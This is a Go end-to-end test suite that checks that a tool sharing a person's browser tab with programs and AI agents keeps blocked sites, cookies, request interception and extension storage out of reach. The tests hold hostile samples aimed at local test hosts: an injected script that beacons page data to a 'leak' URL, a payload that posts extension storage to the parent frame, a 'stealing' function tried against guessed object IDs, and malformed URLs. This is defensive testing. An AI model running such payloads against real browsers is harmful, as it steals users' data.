//go:build e2e

package external

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"

	"cove/e2e/harness"
)

// saw returns a request whose path has a text, without its escapes.
func (s *sites) saw(text string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, one := range s.seen {
		if plain, err := url.PathUnescape(one); err == nil && strings.Contains(plain, text) {
			return plain
		}
	}
	return ""
}

// bounds is a shared tab with a program that may run scripts there and read storage. The site s1 is closed, and
// somebody is logged in there.
func bounds(t *testing.T, args ...string) (s *sites, p *harness.Person, a *harness.App, d *devtools) {
	t.Helper()
	s, p = newSites(t, 3), harness.NewPerson(t, args...)
	s.login(p, "Default", "ann")
	p.Visit("Default", s.url(2, "/open"))
	a = harness.Start(t)
	adopt(t, a, p, "Default")
	a.Policy(shared, "--right", "script=yes", "--right", "storage=yes", "--block", "http://s1.localhost:*")
	share(t, a, "/open")
	return s, p, a, program(t, a)
}

// attached waits for a visible tab, and returns a session of it.
func (d *devtools) attached(text string) string {
	d.t.Helper()
	harness.Wait(d.t, "a tab with "+text, func() bool { return len(d.pages(text)) > 0 })
	return d.attach(d.pages(text)[0]["targetId"])
}

// TestScriptsEndWhereAgentsEnd: a script for new documents runs before a tab is hidden, so it ends by itself in what is
// closed: pages of the browser, and sites that the rules close.
func TestScriptsEndWhereAgentsEnd(t *testing.T) {
	s, p, _, d := bounds(t)
	const script = `"use strict";
var when = document.readyState, strict = (function () { return !this })();
addEventListener('load', () => setTimeout(() => {
  const told = when + strict + typeof (globalThis.chrome || {}).send + location.href.slice(0, 40) + document.title;
  const to = 'http://s3.localhost:%s/leak-' + encodeURIComponent(told).replaceAll('%%2F', '_');
  new Image().src = to;
  if (!/s[23]\./.test(location.href)) location = to;
}, 100))
function RegExp() { return { exec: () => ['', 'http', 's3.localhost', ''], test: () => true } }
function String() {} function Array() {} var location; var origin = 'http://s3.localhost'`
	source := fmt.Sprintf(script, s.port)
	prepare := func() string {
		at := d.attached("localhost")
		d.must(at, "Page.enable", nil)
		d.must(at, "Page.addScriptToEvaluateOnNewDocument", object{"source": source})
		return at
	}
	at := prepare()
	d.must(at, "Page.navigate", object{"url": s.url(3, "/works")})
	harness.Wait(t, "the script where it may run", func() bool { return s.saw("/leak-loadingtrue") != "" })
	for _, address := range []string{"chrome://version", "chrome://settings", s.url(1, "/closed")} {
		s.mu.Lock()
		s.seen = nil
		s.mu.Unlock()
		p.Go(address)
		harness.Wait(t, "the tab to be hidden", func() bool { return len(d.pages("localhost")) == 0 })
		if !strings.HasPrefix(address, "chrome:") {
			harness.Wait(t, "the page", func() bool { return s.saw("/closed") != "" })
		}
		harness.Never(t, 2*time.Second, func() string {
			for _, word := range []string{"chrome:", "__s1."} {
				if told := s.saw(word); strings.Contains(told, "/leak-") {
					return address + ": " + told
				}
			}
			return ""
		})
		p.Go(s.url(2, "/open")) // the person stays where they went, until they go on
		prepare()
	}
	at = prepare()
	d.must(at, "Runtime.evaluate", object{"expression": fmt.Sprintf("location = %q", s.url(1, "/closed-too"))})
	harness.Wait(t, "the page", func() bool { return s.saw("/closed-too") != "" })
	harness.Never(t, 2*time.Second, func() string { return s.saw("__s1.") })
}

// TestAPersonStaysOnAClosedSite: rules are about agents. A shared tab is hidden while the person visits a closed site.
func TestAPersonStaysOnAClosedSite(t *testing.T) {
	s, p, a, d := bounds(t)
	m := a.Agent("my-browser")
	m.Works("take_snapshot", nil)
	d.attached("/open")
	p.Go(s.url(1, "/private"))
	harness.Wait(t, "the tab to be hidden", func() bool { return len(d.pages("localhost")) == 0 })
	harness.Wait(t, "the page", func() bool { return s.saw("/private") != "" })
	a.Policy(shared, "--clear", "block")
	d = program(t, a)
	harness.Wait(t, "the tab as the person left it", func() bool { return len(d.pages("s1.localhost")) == 1 })
	entries, _ := d.must(d.attached("s1.localhost"), "Page.getNavigationHistory", nil)["entries"].([]any)
	last, _ := entries[len(entries)-1].(object)
	if last["url"] != s.url(1, "/private") {
		t.Errorf("the history ends with %v", last)
	}
}

// TestCookiesOfOtherSites: however an address is written, and whatever frames a page has.
func TestCookiesOfOtherSites(t *testing.T) {
	s, _, _, d := bounds(t)
	at := d.attached("/open")
	made := d.must("", "Target.createTarget", object{"url": "about:blank"})
	blank := d.attach(made["targetId"])
	for _, session := range []string{at, blank} {
		for _, address := range []string{s.url(1, "/"), s.url(1, "/%zz"), s.url(1, "/ %"), "http:" + s.url(1, "/")[7:],
			"http:\\\\s1.localhost/", "http://s1.localhost\t/", "//s1.localhost/", ""} {
			got, err := d.call(session, "Network.getCookies", object{"urls": []string{address}})
			if err == nil && strings.Contains(fmt.Sprint(got), "-s1") {
				t.Errorf("%q: %v", address, got)
			}
			_, err = d.call(session, "Network.setCookie", object{"name": "x", "value": "y", "url": address})
			if err == nil {
				t.Errorf("%q: a cookie was set", address)
			}
		}
	}
	d.must(at, "Runtime.evaluate", object{"awaitPromise": true, "expression": fmt.Sprintf(`new Promise(done => {
		const f = document.createElement('iframe'); f.onload = done; f.src = %q; document.body.append(f) })`,
		s.url(1, "/"))})
	got := fmt.Sprint(d.must(at, "Network.getCookies", nil))
	if strings.Contains(got, "-s1") || !strings.Contains(got, "secret-ann-s2") {
		t.Errorf("of a page with a frame: %s", got)
	}
	if got := fmt.Sprint(d.must(blank, "Network.getCookies", nil)); strings.Contains(got, "secret") {
		t.Errorf("of an empty page: %s", got)
	}
}

// TestHistoryIsReadAsTheBrowserReadsIt: 2.0 is 2.
func TestHistoryIsReadAsTheBrowserReadsIt(t *testing.T) {
	s, p, _, d := bounds(t)
	d.attached("/open")
	p.Go("chrome://version")
	harness.Wait(t, "the tab to be hidden", func() bool { return len(d.pages("localhost")) == 0 })
	p.Go(s.url(2, "/after"))
	at := d.attached("/after")
	entries, _ := d.must(at, "Page.getNavigationHistory", nil)["entries"].([]any)
	tried := false
	for _, one := range entries {
		if e, _ := one.(object); e["url"] == "" { // the browser's own page, whose address is not told
			for _, id := range []string{"%.0f", "%.1f", "%.0fe0"} {
				tried = true
				_, err := d.call(at, "Page.navigateToHistoryEntry",
					object{"entryId": json.RawMessage(fmt.Sprintf(id, e["id"]))})
				if err == nil {
					t.Errorf("%s: it was opened", id)
				}
			}
		}
	}
	if !tried || len(d.pages("/after")) != 1 {
		t.Errorf("the history is %v", entries)
	}
}

// TestRequestsForClosedSites: whoever answers a request decides what the document is. Nobody hears of those for closed
// sites.
func TestRequestsForClosedSites(t *testing.T) {
	s, _, _, d := bounds(t)
	at := d.attached("/open")
	d.must(at, "Page.enable", nil)
	d.must(at, "Fetch.enable", nil)
	var mu sync.Mutex
	var told []string
	d.seen = func(raw []byte) {
		var e struct {
			Method string
			Params struct {
				RequestID string
				Request   struct{ URL string }
			}
		}
		if json.Unmarshal(raw, &e) == nil && e.Method == "Fetch.requestPaused" {
			mu.Lock()
			defer mu.Unlock()
			told = append(told, e.Params.RequestID+" "+e.Params.Request.URL)
		}
	}
	last := func() (id, address string) {
		d.must("", "Browser.getVersion", nil)
		mu.Lock()
		defer mu.Unlock()
		if len(told) == 0 {
			return "", ""
		}
		id, address, _ = strings.Cut(told[len(told)-1], " ")
		return id, address
	}
	run := func(script string, args ...any) {
		d.must(at, "Runtime.evaluate", object{"expression": fmt.Sprintf(script, args...)})
	}
	run("fetch('/one').then(r => r.text()).then(t => document.title = t)")
	harness.Wait(t, "a request that the program decides", func() bool { id, _ := last(); return id != "" })
	id, _ := last()
	if _, err := d.call(at, "Fetch.continueRequest", object{"requestId": id, "url": s.url(1, "/secret")}); err == nil {
		t.Error("it was led to a closed site")
	}
	guess := object{"requestId": "interception-job-99.0", "responseCode": 200}
	if _, err := d.call(at, "Fetch.fulfillRequest", guess); err == nil {
		t.Error("a request that nobody told of was answered")
	}
	d.must(at, "Fetch.fulfillRequest", object{"requestId": id, "responseCode": 200, "body": []byte("mine")})
	harness.Wait(t, "the program's answer", func() bool {
		got := d.must(at, "Runtime.evaluate", object{"expression": "document.title"})
		return strings.Contains(fmt.Sprint(got), "mine")
	})
	run("location = %q", s.url(1, "/closed-document"))
	harness.Wait(t, "the closed page", func() bool { return s.saw("/closed-document") != "" })
	if _, address := last(); strings.Contains(address, "s1.") {
		t.Errorf("the program was told of %s", address)
	}
}

const stealing = `async function () { return JSON.stringify([chrome.runtime.id, await chrome.storage.local.get()]) }`

// extension is one with a secret, in a folder.
func extension(t *testing.T) []string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range map[string]string{
		"manifest.json": `{"manifest_version":3,"name":"vault","version":"1","permissions":["storage"],
			"web_accessible_resources":[{"resources":["frame.html"],"matches":["<all_urls>"]}],
			"content_scripts":[{"matches":["http://s2.localhost/*"],"js":["c.js"],"run_at":"document_start"}]}`,
		"frame.html": `<p>vault</p>`,
		"c.js": `chrome.storage.local.set({secret: 'ext-secret'}); console.log({from: 'the extension'});
			console.log('said by the extension');
			document.addEventListener('vault', () => chrome.storage.local.get());
			addEventListener('hashchange', () => {
				const f = document.createElement('iframe');
				f.src = chrome.runtime.getURL('frame.html');
				document.body.append(f);
			})`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return []string{"--load-extension=" + dir, "--disable-features=DisableLoadExtensionCommandLineSwitch"}
}

// TestExtensionsOfThePersonStayClosed: their scripts in a page, the objects of these, and their frames.
func TestExtensionsOfThePersonStayClosed(t *testing.T) {
	s, _, _, d := bounds(t, extension(t)...)
	at := d.attached("/open")
	var heard []string
	last := 1_000_000
	send := func(session, method string, params object) {
		last++
		raw, err := json.Marshal(object{"id": last, "method": method, "params": params, "sessionId": session})
		if err == nil {
			_ = d.ws.Write(t.Context(), websocket.MessageText, raw)
		}
	}
	const payload = `(async () => {
		const all = globalThis.chrome && chrome.storage ? JSON.stringify(await chrome.storage.local.get()) : '';
		parent.postMessage('LEAK ' + location.href + all, '*') })()`
	d.seen = func(raw []byte) {
		heard = append(heard, string(raw))
		var e struct {
			Method string
			Params struct {
				SessionID  string
				TargetInfo struct{ Type string }
			}
		}
		if json.Unmarshal(raw, &e) != nil || e.Method != "Target.attachedToTarget" ||
			e.Params.TargetInfo.Type != "iframe" {
			return
		}
		frame := e.Params.SessionID
		send(frame, "Page.enable", object{})
		send(frame, "Page.addScriptToEvaluateOnNewDocument", object{"source": payload})
		send(frame, "Runtime.runIfWaitingForDebugger", object{})
		for range 20 {
			send(frame, "Runtime.evaluate", object{"expression": payload})
		}
	}
	d.must(at, "Target.setAutoAttach", object{"autoAttach": true, "flatten": true, "waitForDebuggerOnStart": true})
	d.must(at, "Runtime.enable", nil)
	d.must(at, "Console.enable", nil)
	d.must(at, "Runtime.evaluate", object{"expression": `leaks = []; location.hash = 'x';
		addEventListener('message', e => leaks.push(e.data))`})
	d.must(at, "Runtime.evaluate", object{"expression": fmt.Sprintf(`f = document.createElement('iframe'); f.src = %q;
		document.body.append(f); g = document.createElement('iframe'); g.src = %q; document.body.append(g)`,
		s.url(1, "/closed-frame"), s.url(3, "/other-frame"))})
	leaks := func() string {
		const expression = "document.querySelectorAll('iframe').length + JSON.stringify(leaks)"
		return fmt.Sprint(d.must(at, "Runtime.evaluate", object{"expression": expression}))
	}
	harness.Wait(t, "the script in the open frame", func() bool { return strings.Contains(leaks(), "/other-frame") })
	harness.Never(t, 2*time.Second, func() string {
		got := leaks()
		if strings.Contains(got, "closed-frame") || strings.Contains(got, "chrome-extension") ||
			strings.Contains(got, "ext-secret") || !strings.Contains(got, "3[") {
			return "frames: " + got
		}
		return ""
	})

	all := strings.Join(heard, "\n")
	if strings.Contains(all, "chrome-extension") || strings.Contains(all, "the extension") {
		t.Errorf("the program hears of the extension: %s", all)
	}
	got := d.must(at, "Runtime.evaluate", object{"expression": "document"})
	object1, _ := got["result"].(object)
	parts := strings.Split(fmt.Sprint(object1["objectId"]), ".")
	if len(parts) != 3 {
		t.Fatalf("the id of an object is %v", got)
	}
	got = d.must(at, "Runtime.evaluate", object{"expression": "document", "objectGroup": "g"})
	listeners := object{"objectId": got["result"].(object)["objectId"], "depth": -1, "pierce": true}
	if all := fmt.Sprint(d.must(at, "DOMDebugger.getEventListeners", listeners)); !strings.Contains(all, "vault") ||
		strings.Contains(all, "andler:map") {
		t.Errorf("the functions of the extension: %s", all)
	}
	for context := range 12 {
		for n := range 6 {
			id := fmt.Sprintf("%s.%d.%d", parts[0], context, n)
			got, err := d.call(at, "Runtime.callFunctionOn", object{"objectId": id, "functionDeclaration": stealing,
				"awaitPromise": true, "returnByValue": true})
			if err == nil && strings.Contains(fmt.Sprint(got), "ext-secret") {
				t.Errorf("%s: %v", id, got)
			}
		}
	}
}

// TestNothingOfAnAgentsStays: what an agent has made a shared tab believe ends with the agent.
func TestNothingOfAnAgentsStays(t *testing.T) {
	_, _, a, _ := bounds(t)
	a.Policy(shared, "--tabs", "shared")
	d := program(t, a)
	at := d.attached("/open")
	seen := func() string {
		const dark = "matchMedia('(prefers-color-scheme: dark)').matches"
		got := d.must(at, "Runtime.evaluate", object{"returnByValue": true,
			"expression": "navigator.onLine + ' ' + " + dark + " + ' ' + innerWidth"})
		result, _ := got["result"].(object)
		return fmt.Sprint(result["value"])
	}
	before := seen()
	m := a.Agent("my-browser")
	m.Works("select_page", harness.Object{"pageId": 1})
	m.Works("emulate", harness.Object{"networkConditions": "Offline", "colorScheme": "dark", "viewport": "400x400x1"})
	during := seen()
	if during != "false true 400" {
		t.Errorf("before %q, while an agent emulates %q", before, during)
	}
	m.Fails("emulate", harness.Object{"cpuThrottlingRate": 4, "networkConditions": "Slow 3G"}, "a person shares")
	if got := seen(); got != during {
		t.Errorf("after a refusal it sees %q", got)
	}
	m.Close()
	harness.Wait(t, "the tab as it was: "+before, func() bool { return seen() == before })
}
